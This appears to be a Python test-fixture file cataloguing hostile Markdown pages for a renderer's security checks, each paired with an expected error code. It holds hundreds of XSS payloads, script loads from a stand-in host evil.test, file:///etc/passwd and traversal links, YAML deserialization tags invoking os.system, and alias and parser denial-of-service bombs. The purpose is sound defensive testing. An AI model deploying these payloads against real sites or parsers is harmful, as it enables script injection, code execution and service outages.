"""Hostile Markdown: what an author under duress, or a page from a stranger, may contain.

Each case is a page and the code of the problem that must be reported for it; None where the input is
harmless as it stands (it is shown as text, or says nothing to a browser) and nothing is lost.
Whatever it is, no script of it may run: each would set ``window.pwned``.
"""

from __future__ import annotations

from typing import NamedTuple

RUN = "window.pwned=1"
IMG = "<img src=x.png onerror=" + RUN + ">"


class Case(NamedTuple):
    """One hostile page."""

    name: str
    """File name without ending."""
    text: str
    """The page."""
    code: str | None
    """The problem that must be reported."""


def _numbered(prefix: str, code: str | None, texts: list[str]) -> list[Case]:
    return [Case(f"{prefix}-{number:02d}", text, code) for number, text in enumerate(texts)]


SCRIPTS = _numbered("script", "OA403", [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<script type='module'>{RUN}</script>",
    "<script src='x.js'></script>",
    "<script src=//evil.test/x.js></script>",
    f"text <script>{RUN}</script> text",
    f"- item\n\n  <script>{RUN}</script>",
    f"> <script>{RUN}</script>",
    f"<div><script>{RUN}</script></div>",
    f"<p><script>{RUN}",
    f"</script><script>{RUN}</script>",
    f"<b><script>{RUN}</script></b>",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f"# <script>{RUN}</script>",
    f"## T <script>{RUN}</script>",
    f"text[^1]\n\n[^1]: <script>{RUN}</script>",
    f"term\n: <script>{RUN}</script>",
    f"[<script>{RUN}</script>](index.md)",
    "<style>body{background:url(//evil.test/x)}</style>",
    "<style>@import 'http://evil.test/x.css';</style>",
    f"<style><img src=\"</style><img src=x.png onerror={RUN}//\">",
    f"<STYLE>*{{x:expression({RUN})}}</STYLE>",
])

SHOWN_AS_TEXT = _numbered("tag", "OA401", [
    "<iframe src='http://evil.test'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<frameset><frame src=//evil.test></frameset>",
    "<object data='http://evil.test/x.swf'></object>",
    "<embed src='http://evil.test/x.swf'>",
    "<applet code=X archive=http://evil.test/></applet>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=preconnect href=http://evil.test>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<link rel=prefetch href=//evil.test>",
    "<link rel=preload as=image imagesrcset='http://evil.test/x 1x'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href='http://evil.test/'>",
    "<form action='http://evil.test'><input name=q><button>go</button></form>",
    "<button formaction=http://evil.test>go</button>",
    "<input type=image src=http://evil.test/x.png>",
    f"<input autofocus onfocus='{RUN}'>",
    "<video src=http://evil.test/x.mp4 poster=http://evil.test/x.png></video>",
    "<audio src=http://evil.test/x.mp3></audio>",
    "<picture><source srcset=http://evil.test/x.png></picture>",
    "<source srcset=http://evil.test/x.png>",
    "<track src=http://evil.test/x.vtt>",
    "<map name=m><area href=http://evil.test></map>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><use href='http://evil.test/x.svg#a'/></svg>",
    "<svg><image href='http://evil.test/x.png'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x.png onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x.png onerror={RUN}></style></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload='{RUN}'>",
    "<html manifest=http://evil.test/x>",
    f"<noscript><p title=\"</noscript>{IMG}\"></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp></xmp>{IMG}",
    f"<title></title>{IMG}",
    f"<textarea></textarea>{IMG}",
    "<plaintext>",
    "<portal src=http://evil.test></portal>",
    "<bgsound src=http://evil.test/x.wav>",
    "<keygen autofocus onfocus='window.pwned=1'>",
    "<isindex action=http://evil.test>",
    "<layer src=http://evil.test></layer>",
    "<dialog open>x</dialog>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<canvas onclick={RUN}></canvas>",
    "<main id=main>x</main>",
    "</main></div></body></html>",
    f"</article></main></body>{IMG}",
    "<slot name=x></slot>",
    "<x-custom onclick=window.pwned=1>x</x-custom>",
    "<fencedframe src=http://evil.test></fencedframe>",
    "<webview src=http://evil.test></webview>",
])

EVENTS = _numbered("event", "OA402", [
    *(f"<b {name}='{RUN}'>x</b>" for name in (
        "onabort onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onblur onclick oncopy "
        "oncontentvisibilityautostatechange ondblclick ondrag onfocus onfocusin onformdata ongotpointercapture "
        "onkeydown onload onmouseenter onmouseover onpaste onpointerenter onpointerrawupdate onscroll "
        "onscrollend onsecuritypolicyviolation onselectstart ontoggle ontouchstart ontransitionend "
        "onwebkitanimationstart onwheel").split()),
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<b ONCLICK='{RUN}'>x</b>",
    f"<b OnClIcK=\"{RUN}\">x</b>",
    f"<b\nonclick = '{RUN}'>x</b>",
    f"<b\tonclick\t=\t'{RUN}'>x</b>",
    f"<b x onclick='{RUN}' y>x</b>",
    f"<b title='>' onclick='{RUN}'>x</b>",
    f"<div onclick='{RUN}'>\n\ntext\n\n</div>",
    f"[span]{{onclick=\"{RUN}\"}}",
    f"`code`{{onclick=\"{RUN}\"}}",
    f"{{onclick=\"{RUN}\"}}\nparagraph",
    f"[link](index.md){{onclick=\"{RUN}\"}}",
    f"[span]{{OnClick=\"{RUN}\"}}",
    "[span]{style=\"background:url(//evil.test)\"}",
    "<p style='background:url(http://evil.test/x)'>x</p>",
    "<p style='\\62 ackground:\\75rl(//evil.test)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=\"x:expression(window.pwned=1)\">x</p>",
    "<p style='-moz-binding:url(//evil.test/x)'>x</p>",
    "<img src=i.png srcset='http://evil.test/x.png 2x'>",
    "<table background=http://evil.test/x.png><tr><td>x</td></tr></table>",
    "<a href=index.md ping=http://evil.test>x</a>",
    "<p xml:base=http://evil.test>x</p>",
    "<a xlink:href='javascript:window.pwned=1'>x</a>",
])

ADDRESSES = _numbered("address", "OA205", [
    *(f"[x]({address})" for address in (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
        f"&#x6A;avascript:{RUN}", f"&#0000106avascript:{RUN}".replace("106a", "106;a"),
        f"&#32;javascript:{RUN}", f"vbscript:{RUN}", "data:text/html,<script>window.pwned=1</script>".replace("<", "&lt;"),
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
        "data:image/svg+xml,%3Csvg%20onload=window.pwned=1%3E", "data:application/xhtml+xml,x",
        "file:///etc/passwd", "file://evil.test/share", "FILE:c:/windows/win.ini", "blob:null/abc",
        "filesystem:file:///x", "view-source:file:///etc/passwd", "jar:http://evil.test!/x",
        f"feed:javascript:{RUN}", f"livescript:{RUN}", f"mocha:{RUN}", "about:blank", "chrome://settings",
        "resource://gre/", "moz-extension://x/", "ms-settings:privacy", "search-ms:query=x",
        "intent://evil.test#Intent;end", "steam://run/1", "x:y", "c:/windows/system32/calc.exe",
        "content://com.android.contacts/", "wyciwyg://0/", "ms-word:ofe|u|http://evil.test/x".replace("|", "%7C"))),
    f"<javascript:{RUN}>",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"![x](javascript:{RUN})",
    "![x](data:image/png;base64,AAAA)",
    "![x](file:///etc/passwd)",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=\" \tjavascript:{RUN}\">x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='JAVASCRIPT:{RUN}'>x</a>",
    f"<a href='&#x6a;&#x61;vascript:{RUN}'>x</a>",
    f"<a href='javascript&colon;{RUN}'>x</a>",
    "<a href='data:text/html,&lt;script&gt;window.pwned=1&lt;/script&gt;'>x</a>",
    f"<img src='javascript:{RUN}'>",
    "<img src='data:image/svg+xml,&lt;svg onload=window.pwned=1&gt;'>",
])

OUTSIDE_IMAGES = _numbered("picture", "OA206", [
    "![x](http://evil.test/x.png)", "![x](HTTPS://evil.test/x.png)", "![x](//evil.test/x.png)",
    "![x](/\\\\evil.test/x.png)".replace("/\\\\", "//"),
    "<img src=http://evil.test/x.png>", "<img src='//evil.test/x.png'>", "<img src='\\\\evil.test\\x.png'>",
    "<img src='/\\evil.test/x.png'>", "<img src='ht\ntp://evil.test/x.png'>", "<img src=' http://evil.test/x.png'>",
    "[![x](http://evil.test/x.png)](http://evil.test)",
])

OUTSIDE_LINKS = _numbered("outside", None, [
    "[x](http://evil.test/)", "[x](HTTP://EVIL.TEST)", "<https://evil.test>", "[x](//evil.test/)",
    "[x](https:evil.test)", "[x](http:/evil.test)", "[x](http:\\\\evil.test)",
    "[x](///evil.test)", "[x](mailto:a@evil.test)", "<a@evil.test>",
    "[x](tel:+123)", "[x](ftp://evil.test)", "[x](ws://evil.test)", "[x][r]\n\n[r]: http://evil.test",
    "<a href=http://evil.test>x</a>", "<a href='//evil.test' target=_blank rel=opener>x</a>",
    "<a href='\\\\evil.test\\x'>x</a>", "<a href='/\\evil.test'>x</a>", "<a href='h&#9;ttp://evil.test'>x</a>",
    "<blockquote cite=http://evil.test>x</blockquote>", "<q cite=http://evil.test>x</q>",
    "<a href=http://evil.test>x", "<a href=http://evil.test><b>x</a></b>",
])

ENCODED = _numbered("encoded", "OA203", [
    # Markdown percent-encodes these before anyone reads them as an address: they name odd files.
    f"[x](java&Tab;script:{RUN})", f"[x](java&NewLine;script:{RUN})", f"[x](&#1;javascript:{RUN})",
    "[x](/\\evil.test)", "[x](\\\\evil.test\\share)", "[x](..\\\\..\\\\secret.md)",
    f"<a href='\x01javascript:{RUN}'>x</a>", f"[x](javascript%3A{RUN})", "[x](%2F%2Fevil.test)",
])

ESCAPES = _numbered("escape", "OA201", [
    "[x](../../../../etc/passwd)", "[x](..%2F..%2Fetc/passwd)", "[x](%2e%2e/%2e%2e/etc/passwd)",
    "![x](../../secret.png)", "[x](a/../../b.md)", "<a href='../x.md'>x</a>",
    "<img src='../../x.png'>", "[x](/../x.md)",
])

MISSING = _numbered("missing", "OA203", [
    "[x](/etc/passwd)", "[x](.git/config)", "[x](~/secret)", "[x](<no such file.md>)", "[x](index.md/../../site/x)".replace("/../../site", ""),
    "[x](%00)", "[x](%ff%fe)", "[x](" + "a" * 3000 + ".md)", "[x](" + "a/" * 800 + "b.md)", "[x](con)", "[x](?query)".replace("?query", "q?query"),
])

QUOTES = _numbered("quote", None, [
    "[x](index.md \"\\\" onmouseover=window.pwned=1 x=\\\"\")",
    "[x](index.md '\"><img src=x onerror=window.pwned=1>')",
    "```\"><script>window.pwned=1</script>\ncode\n```",
    "``` html onclick=window.pwned=1\n<script>window.pwned=1</script>\n```",
    "`<script>window.pwned=1</script>`",
    "    <script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\<script>window.pwned=1\\</script>",
    "< script>window.pwned=1</ script>",
    "<\u0000script>window.pwned=1</script>".replace("</script>", ""),
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "## <b>\"'><img src=x.png></b> {#a\"onclick=x}".replace("<img src=x.png>", ""),
    "[^\"><b>]\n\n[^\"><b>]: note",
    "*em*{onmouseover=\"window.pwned=1\"}",  # the dialect gives emphasis no attributes: this is text
    "{#main}\nparagraph",
    "{#search-input}\nparagraph",
    "<p id=search-results>x</p>",
    "<p class='ui-skip ui-header'>x</p>",
    "[x]{.ui-search #site-search}",
    "# search-results\n\n## Search results\n\n## main",
    "<a name='search-status'></a>",
    "<p id=__proto__>x</p>\n\n<p id=constructor>y</p>",
    "<!-- <script>window.pwned=1</script> -->",
    "<!-- --!><b>x</b> -->",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[ x ]]>",
    "a\u202egnp.exe",
    "<b title=`x` onclick`=1>x</b>",
    "<b/onclick=window.pwned=1>x</b>",
    "<b x='1'onclick=window.pwned=1>x</b>",
    "<b onclick=\"window.pwned=1>x</b>",
    "<a href=\"index.md\"title=x\"onclick=1>x</a>",
    "<b" + " x" * 20000 + ">x</b>",
    "</b></i></p></div></section></li></ul></table>",
    "<table><tr><td>" * 60 + "x",
    "<ul><li>" * 60 + "x",
    "<p>" * 150 + "x",
    "*" * 20000,
    "[" * 20000,
    "![" * 5000,
    "`" * 20001,
    "<" * 20000,
    "&" * 20000,
    "\\" * 20001,
    "_a" * 8000,
    "**a " * 4000,
    "[a](" * 4000,
    "[a][" * 4000,
    "- " * 200 + "x",
    "1. " * 200 + "x",
    "> " * 500 + "x",
    "[x](<" * 3000,
    "|" * 4000 + "\n" + "|-" * 2000 + "|",
    "<a href=index.md>" * 90 + "x",
    "^[" * 2000,
    "[^1]: " * 2000,
    "{" * 5000,
    "[a]{" * 3000,
    "a\n: " * 3000,
    "<!--" * 4000,
    "<b " * 4000,
    "~~" * 5000,
])

LONG = _numbered("long", None, [
    # Each took time that grows with the square of its length, or memory that grows without end.
    sign * (60_000 // len(sign)) for sign in (
        "[", "![", "^[", "[a\n", "[[", "^[a]", "a\n: b\n", "<![CDATA[", "</script ", "<div></b>", ">" * 90 + "a\n",
        "[a](&uuml;)\n", "[a](", "{", "<", "> ", "<?", "|a")])

BOMBS = _numbered("bomb", None, [
    "<div><p>x" + "".join(f"<i title={n}{'A' * 500}>" for n in range(190)) + "</p>" + "<p>x</p>" * 2000,
    "".join(f"<b class={n}{'A' * 500}>" for n in range(190)) + "\n\n" + "paragraph\n\n" * 2000,
    "<p>x" * 5000, "<li>x" * 5000,
    "|a" * 3000 + "\n" + "|-" * 3000 + "\n" + "|a|\n" * 3000,
    "".join(f"## heading {n}\n\n[x](#hedding-{n})\n\n" for n in range(400)),
])

DEEP = _numbered("deep", "OA111", ["<div>" * 400 + "x", "<b>" * 400 + "x" + "</b>" * 400])


def _aliases() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 10)]
    return "---\n" + "\n".join(lines) + "\n---\ntext\n"


FRONT_MATTER = [
    Case("yaml-00", _aliases(), "OA109"),
    Case("yaml-01", "---\na: " + "[" * 5000 + "]" * 5000 + "\n---\ntext", "OA109"),
    Case("yaml-02", "---\na: &a [*a]\n---\ntext", "OA109"),
    Case("yaml-03", "---\n" + "x: 1\n" * 20000 + "---\ntext", "OA109"),
    Case("yaml-04", "---\na: !!python/object/apply:os.system ['touch pwned']\n---\ntext", "OA101"),
    Case("yaml-05", "---\na: !!python/name:os.system\n---\ntext", "OA101"),
    Case("yaml-06", "---\ntitle: [a\n---\ntext", "OA101"),
    Case("yaml-07", "---\ntitle: a: b\n---\ntext", "OA101"),
    Case("yaml-08", "---\n\ttitle: x\n---\ntext", "OA101"),
    Case("yaml-09", "---\nweight: " + "9" * 6000 + "\n---\ntext", "OA101"),
    Case("yaml-10", "---\ndate: 2017-13-45\n---\ntext", "OA101"),
    Case("yaml-11", "---\ntitle: {a: b}\n---\ntext", "OA102"),
    Case("yaml-12", "---\nweight: heavy\n---\ntext", "OA102"),
    Case("yaml-13", "---\ntitle: <script>window.pwned=1</script>\nsummary: <img src=x onerror=window.pwned=1>\n"
         "content_note: \"'><script>window.pwned=1</script>\"\n---\ntext", None),
    Case("yaml-14", "---\nlang: ../../etc\nslug: ../../x\nurl: /etc/passwd\nlayout: ../../x\n---\ntext", None),
    Case("yaml-15", "---\n? [a, b]\n: c\n---\ntext", "OA101"),
    Case("yaml-16", "+++\ntitle = \"a\n+++\ntext", "OA101"),
    Case("yaml-17", "+++\na = " + "[" * 3000 + "]" * 3000 + "\n+++\ntext", "OA109"),
    Case("yaml-18", "---\na: !!binary x\n---\ntext", "OA101"),
    Case("yaml-19", "---\n<<: *x\n---\ntext", "OA109"),
    Case("yaml-21", "---\na: !!bool foo\n---\ntext", "OA101"),
    Case("yaml-22", "---\na: !!timestamp foo\n---\ntext", "OA101"),
    Case("yaml-23", "---\na: !!int \"\"\n---\ntext", "OA101"),
    Case("yaml-24", "---\ntitle: 0x" + "f" * 5000 + "\n---\ntext", "OA109"),
    Case("yaml-25", "---\na: &a {k: 1}\nb: {<<: [*a, *a]}\n---\ntext", "OA109"),
    Case("yaml-26", "+++\n" + "a." * 20000 + "a = 1\n+++\ntext", "OA109"),
    Case("yaml-27", "---\n" + "\n" * 50000 + "---\ntext", None),
    Case("yaml-28", "---\ntitle: \"\\x01\\x85\\x9b\"\n---\ntext", None),
    Case("yaml-20", "---\ntitle: \"\\ud800\"\n---\ntext", "OA101"),
]

BYTES: list[tuple[str, bytes, str | None]] = [
    ("bytes-00", b"text \xff\xfe\xfd text", "OA103"),
    ("bytes-01", b"\xc0\xbcscript\xc0\xbewindow.pwned=1", "OA103"),
    ("bytes-02", b"\xed\xa0\xbd\xed\xb8\x80", "OA103"),
    ("bytes-03", b"text \xe2\x82", "OA103"),
    ("bytes-04", b"\x00\x01\x02<script>window.pwned=1</script>\x00", "OA403"),
    ("bytes-05", "<script>window.pwned=1</script>".encode("utf-16"), "OA403"),
    ("bytes-06", b"\xef\xbb\xbf---\ntitle: BOM\n---\n<script>window.pwned=1</script>", "OA403"),
    ("bytes-07", b"\x80" * 1000, "OA103"),
]

CASES: list[Case] = [*SCRIPTS, *SHOWN_AS_TEXT, *EVENTS, *ADDRESSES, *OUTSIDE_IMAGES, *OUTSIDE_LINKS, *ENCODED, *ESCAPES,
                     *MISSING, *QUOTES, *LONG, *BOMBS, *DEEP, *FRONT_MATTER]
"""Every hostile page that is text."""
